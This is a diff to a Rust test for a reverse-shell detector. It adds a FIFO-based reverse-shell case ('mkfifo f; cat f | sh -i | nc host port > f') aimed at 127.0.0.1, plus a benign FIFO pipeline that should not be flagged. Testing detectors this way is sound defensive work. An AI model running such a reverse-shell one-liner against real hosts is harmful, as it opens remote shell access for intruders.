@@ -3153,6 +3153,14 @@ fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
                 "rm -f {fifo}; mkfifo {fifo}\nsh -i < {fifo} 2>&1 | nc 127.0.0.1 {port} > {fifo}\n"
             ),
         ),
+        (
+            // The commonest form: `cat` opens the FIFO after its exec; the pipeline finds the
+            // FIFO its operand names.
+            "mkfifo f; cat f | sh -i | nc host port > f",
+            format!(
+                "rm -f {fifo}; mkfifo {fifo}\ncat {fifo} | sh -i 2>&1 | nc 127.0.0.1 {port} > {fifo}\n"
+            ),
+        ),
     ] {
         let pid = sh_file(&scratch, "relay.sh", &script);
         let found = detect(pid);
@@ -3184,6 +3192,10 @@ fn a_shell_fed_by_a_network_relay_is_a_reverse_shell() {
                 "nc 127.0.0.1 {port} | sh -c 'cat > {}'\n",
                 scratch.path("received")
             ),
+        ),
+        (
+            "cat f | sh, the FIFO written by echo",
+            format!("rm -f {fifo}; mkfifo {fifo}\necho true > {fifo} &\ncat {fifo} | sh\nwait\n"),
         ),
     ] {
         let pid = sh_file(&scratch, "benign.sh", &script);
